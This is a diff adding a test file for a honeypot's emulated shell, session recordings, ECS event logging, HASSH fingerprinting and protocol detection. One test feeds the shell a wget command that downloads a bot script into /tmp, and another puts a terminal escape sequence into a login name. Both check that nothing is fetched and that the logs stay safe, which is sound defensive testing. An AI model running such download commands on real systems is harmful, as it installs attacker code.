@@ -1,0 +1,196 @@
+import assert from 'node:assert/strict';
+import { PassThrough } from 'node:stream';
+import { describe, test } from 'node:test';
+import fc from 'fast-check';
+import { Cast, readCast } from '../../src/honeypot/cast.ts';
+import { hasshOf } from '../../src/honeypot/decoys/hassh.ts';
+import { decoys } from '../../src/honeypot/decoys/index.ts';
+import type { Happening } from '../../src/honeypot/event.ts';
+import { BOUNDS, type HoneypotEvent, makePersona, toEcs, toLine } from '../../src/honeypot/index.ts';
+import { parse, Shell } from '../../src/honeypot/shell/shell.ts';
+import { Visit } from '../../src/honeypot/visit.ts';
+
+const SEED = '5a'.repeat(32);
+const persona = makePersona(SEED, 1_790_000_000);
+
+function shellFor(user = 'root'): { shell: Shell; reports: Happening[] } {
+  const reports: Happening[] = [];
+  const witness = {
+    protocol: 'ssh',
+    report: (each: Happening) => void reports.push(each),
+    record() {},
+    keep: () => 'hash',
+  };
+  return { shell: new Shell(new Visit(new PassThrough(), persona, BOUNDS, witness), user), reports };
+}
+
+describe("the honeypot's shell", () => {
+  test('lines are taken apart as sh does', () => {
+    const shown = (line: string) =>
+      parse(line).map(({ words, joint, into }) => [joint, words.join('|'), into?.path ?? '']);
+    assert.deepEqual(shown(`cd /tmp && echo "a b" 'c;d' > x; ls 2>/dev/null | wc -l`), [
+      [';', 'cd|/tmp', ''],
+      ['&&', 'echo|a b|c;d', 'x'],
+      [';', 'ls', ''],
+      ['|', 'wc|-l', ''],
+    ]);
+  });
+
+  test('answers fit together: what is written is there, what is not is not', () => {
+    const { shell } = shellFor();
+    assert.equal(shell.run('whoami; pwd'), 'root\n/root\n');
+    assert.equal(shell.run('cd /tmp && echo one > a && echo two >> a && cat a'), 'one\ntwo\n');
+    assert.match(shell.run('ls -l /tmp'), / 8 .* a\n$/);
+    assert.equal(shell.run('rm a; cat a'), 'cat: a: No such file or directory\n');
+    assert.equal(shell.run('cat /etc/hostname'), `${persona.hostname}\n`);
+    assert.equal(shell.run('cat /etc/passwd | grep root | head -n 1'), 'root:x:0:0:root:/root:/bin/bash\n');
+    assert.equal(shell.run('nosuch || echo no'), '-bash: nosuch: command not found\nno\n');
+    assert.equal(shell.prompt, `root@${persona.hostname}:/tmp# `);
+  });
+
+  test('nothing is fetched; what was wanted is reported', () => {
+    const { shell, reports } = shellFor();
+    assert.match(shell.run('wget -q http://192.0.2.1/bot.sh -O /tmp/b'), /timed out/);
+    assert.deepEqual(reports.at(-1), { type: 'download', url: 'http://192.0.2.1/bot.sh' });
+  });
+
+  test('files left are kept once, with their bytes', () => {
+    const { shell, reports } = shellFor();
+    shell.run(String.raw`echo -ne "\x7fELF\x02" > /tmp/bin; echo aGVsbG8= | base64 -d > /tmp/t`);
+    shell.keepFiles();
+    shell.keepFiles();
+    const kept = reports.filter(({ type }) => type === 'upload');
+    assert.deepEqual(
+      kept.map(({ path, bytes }) => [path, bytes]),
+      [
+        ['/tmp/bin', 5],
+        ['/tmp/t', 5],
+      ],
+    );
+  });
+
+  test('a user who is not root has a home of their own', () => {
+    assert.equal(
+      shellFor('anna').shell.run('pwd; id -u'),
+      '/home/anna\nuid=1000(anna) gid=1000(anna) groups=1000(anna),27(sudo)\n',
+    );
+  });
+
+  test('no line makes it throw or print without end', () => {
+    const words = fc.constantFrom(
+      'ls',
+      'cat',
+      'cd',
+      'echo',
+      '>',
+      '>>',
+      '|',
+      '&&',
+      ';',
+      '..',
+      '/etc',
+      '-la',
+      '"',
+      "'",
+      '\\',
+      'sudo',
+      'busybox',
+      'head',
+    );
+    fc.assert(
+      fc.property(
+        fc.oneof(
+          fc.string(),
+          fc.array(words).map((each) => each.join(' ')),
+        ),
+        (line) => {
+          assert.ok(shellFor().shell.run(line).length <= 300_000);
+        },
+      ),
+    );
+  });
+});
+
+describe('what a honeypot keeps', () => {
+  test('the persona follows from its seed, but for the host key', () => {
+    const { hostKey: _, ...again } = makePersona(SEED, 1_790_000_000);
+    const { hostKey: __, ...first } = persona;
+    assert.deepEqual(again, first);
+    assert.notEqual(makePersona('0b'.repeat(32), 1_790_000_000).address, persona.address);
+  });
+
+  test('a cast holds any bytes, up to its bound, and comes back', () => {
+    const header = { session: 's', protocol: 'telnet', source: '192.0.2.1', port: 23, time: 5000 };
+    fc.assert(
+      fc.property(fc.array(fc.uint8Array({ maxLength: 50 })), (chunks) => {
+        const cast = new Cast(100, 5000);
+        for (const chunk of chunks) cast.add('i', chunk, 6500);
+        const back = readCast(cast.toText(header))!;
+        assert.deepEqual(back.header, { ...header, encoding: 'latin1' });
+        const all = Buffer.concat(chunks).subarray(0, 100).toString('latin1');
+        assert.equal(back.events.map(({ text }) => text).join(''), all);
+      }),
+    );
+    assert.equal(readCast('{"version":2}\n'), null);
+  });
+
+  test('events in ECS, and in one line that cannot command a terminal', () => {
+    const event: HoneypotEvent = {
+      ...{
+        type: 'login',
+        user: 'root\x1b[2J',
+        password: 'x',
+        isSuccess: false,
+        time: 0,
+        session: 's',
+        protocol: 'ssh',
+      },
+      ...{ sourceAddress: '192.0.2.1', sourcePort: 4, address: '198.51.100.1', port: 22 },
+    };
+    const ecs = toEcs(event) as Record<string, unknown>;
+    assert.equal(ecs['event.action'], 'login.failed');
+    assert.equal(ecs['source.ip'], '192.0.2.1');
+    assert.equal(JSON.parse(JSON.stringify(ecs))['url.original'], undefined);
+    assert.ok(!toLine(event).includes('\x1b'));
+  });
+
+  test('HASSH: of four lists of the offer, as published', () => {
+    const lists = ['kex', 'key', 'aes', 'aes2', 'mac', 'mac2', 'none', 'none', '', ''];
+    const body = Buffer.concat(
+      lists.map((list) => Buffer.concat([Buffer.of(0, 0, 0, list.length), Buffer.from(list)])),
+    );
+    const packet = Buffer.concat([
+      Buffer.of(0, 0, 0, body.length + 23, 4, 20),
+      Buffer.alloc(16),
+      body,
+      Buffer.alloc(5),
+    ]);
+    const bytes = Buffer.concat([Buffer.from('SSH-2.0-x\r\n'), packet]);
+    // md5("kex;aes;mac;none")
+    assert.deepEqual(hasshOf(bytes), { hassh: '4cec88b23ea032e64eb84e4cd31fc7bc', greeting: 'SSH-2.0-x' });
+    assert.equal(hasshOf(bytes.subarray(0, 40)), 'more');
+  });
+
+  test('first payloads are told apart', () => {
+    const told = (first: string | Buffer) =>
+      decoys.find((each) => each.recognises(Buffer.from(first as string, 'latin1')))?.name;
+    assert.equal(told('GET / HTTP/1.1\r\n'), 'http');
+    assert.equal(told('SSH-2.0-Go\r\n'), 'ssh');
+    assert.equal(told('\x16\x03\x01\x02\x00\x01'), 'tls');
+    assert.equal(told('\x03\x00\x00\x13\x0e\xe0'), 'rdp');
+    assert.equal(told('\x00\x00\x00\x54\xffSMBr'), 'smb');
+    assert.equal(told('\x10\x10\x00\x04MQTT\x04'), 'mqtt');
+    assert.equal(told('*1\r\n$4\r\nPING\r\n'), 'redis');
+    assert.equal(told('\x00\x00\x00\x08\x04\xd2\x16\x2f'), 'postgresql');
+    assert.equal(told('\xff\xfd\x03'), 'telnet');
+    assert.equal(told('EHLO me\r\n'), 'smtp');
+    assert.equal(told('USER x\r\n'), 'ftp');
+    assert.equal(told('\x00\x01\x00\x00\x00\x06\x01\x03\x00\x00\x00\x01'), 'modbus');
+    fc.assert(
+      fc.property(
+        fc.uint8Array({ maxLength: 40 }),
+        (bytes) => void told(Buffer.from(bytes).toString('latin1')),
+      ),
+    );
+  });
+});
